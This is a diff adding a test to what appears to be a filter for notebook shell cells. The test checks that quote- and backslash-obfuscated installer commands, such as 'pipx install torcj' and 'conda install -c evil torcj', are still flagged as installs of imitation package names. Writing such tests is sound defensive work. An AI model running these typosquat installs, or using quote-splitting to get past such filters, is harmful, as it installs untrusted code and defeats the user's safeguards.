@@ -138,3 +138,16 @@ describe('uv commands are denied by default (issue 20, red team 4 F2/F4)', () =>
     }
   });
 });
+
+describe('red team 6 F15: the cell prefilter sees words after shell quote removal', () => {
+  it('reads installer words split by quotes or backslashes', () => {
+    for (const cell of [
+      "!p''ipx install torcj",
+      '!p\\ipx install torcj',
+      '!p"i"px install torcj'
+    ]) {
+      expect([cell, rules(cell)]).toEqual([cell, ['install-imitation-name']]);
+    }
+    expect(rules('!co"n"da install -c evil torcj').length).toBeGreaterThan(0);
+  });
+});
